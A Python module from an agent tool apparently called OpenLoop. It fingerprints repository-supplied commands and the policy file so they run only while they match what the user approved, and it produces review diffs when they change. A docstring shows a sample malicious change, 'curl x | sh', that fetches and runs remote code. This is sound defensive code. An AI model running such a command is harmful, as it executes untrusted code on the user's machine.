"""Which repository-supplied commands the user has approved.

Validation commands and a custom agent command come from `.openloop/project.json`, a file anyone
with commit access (or the agent itself) can change. OpenLoop runs them only while their
fingerprint matches the one the user approved, recorded in the user-side registry. The
governing policy.yaml is approved the same way: while its fingerprint differs from the approved
one, nothing auto-merges.
"""

from __future__ import annotations

import hashlib
import json

from openloop.env import Environment
from openloop.errors import UntrustedError
from openloop.state.projectconfig import ProjectConfig
from openloop.state.registry import ProjectEntry, TrustRecord, load_registry


def repo_commands(config: ProjectConfig) -> dict[str, str | None]:
    commands = {f"validation.{k}": v for k, v in config.validation.commands().items()}
    commands["agent.command"] = config.agent.command if config.agent.type == "custom" else None
    return commands


def fingerprint(commands: dict[str, str | None]) -> str:
    canonical = json.dumps(commands, sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(canonical.encode()).hexdigest()


def is_trusted(entry: ProjectEntry, config: ProjectConfig) -> bool:
    commands = repo_commands(config)
    if not any(commands.values()):
        return True  # nothing to run, nothing to approve
    return entry.trust is not None and entry.trust.fingerprint == fingerprint(commands)


def untrusted_reason(entry: ProjectEntry, config: ProjectConfig) -> str | None:
    """Why `config`'s commands must not run (they are not the approved ones), or None."""
    if is_trusted(entry, config):
        return None
    return (
        f"project '{entry.alias}' asks to run commands you have not approved; review with "
        f"'openloop project trust {entry.alias} --check'"
    )


def recheck(env: Environment, entry: ProjectEntry, config: ProjectConfig) -> str | None:
    """untrusted_reason against the approval as the registry holds it now, for the moment right
    before a command runs: the gate's answer is minutes old by then (an agent ran, a rebase
    happened), and `entry` may be a copy read before the user changed the approval."""
    current = load_registry(env).find(entry.alias)
    if current is None:
        return f"project '{entry.alias}' is no longer linked: its commands are not approved"
    return untrusted_reason(current, config)


def trust_diff(entry: ProjectEntry, config: ProjectConfig) -> list[str]:
    """Lines like `- validation.test: pytest` / `+ validation.test: curl x | sh`."""
    approved = entry.trust.commands if entry.trust else {}
    lines: list[str] = []
    for key, new in repo_commands(config).items():
        old = approved.get(key)
        if old == new:
            if new:
                lines.append(f"  {key}: {new}")
            continue
        if old:
            lines.append(f"- {key}: {old}")
        if new:
            lines.append(f"+ {key}: {new}")
    return lines


def approve(config: ProjectConfig, now: str, policy_text: str | None = None) -> TrustRecord:
    commands = repo_commands(config)
    record = TrustRecord(fingerprint=fingerprint(commands), commands=commands, approved_at=now)
    if policy_text is not None:
        record.policy_fingerprint = policy_fingerprint(policy_text)
        record.policy = policy_text
    return record


def policy_fingerprint(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def policy_approved(entry: ProjectEntry, text: str) -> bool:
    return entry.trust is not None and entry.trust.policy_fingerprint == policy_fingerprint(text)


def policy_diff(entry: ProjectEntry, text: str) -> list[str]:
    """The governing policy against the approved one, as unified diff lines (empty: same)."""
    import difflib

    approved = (entry.trust.policy if entry.trust else None) or ""
    if policy_approved(entry, text):
        return []
    return list(
        difflib.unified_diff(
            approved.splitlines(), text.splitlines(), "approved", "current", lineterm=""
        )
    )


def require_trusted(entry: ProjectEntry, config: ProjectConfig) -> None:
    if not is_trusted(entry, config):
        raise UntrustedError(
            f"project '{entry.alias}': its commands changed since you approved them; review with "
            f"'openloop project trust {entry.alias} --check', approve with "
            f"'openloop project trust {entry.alias}'"
        )
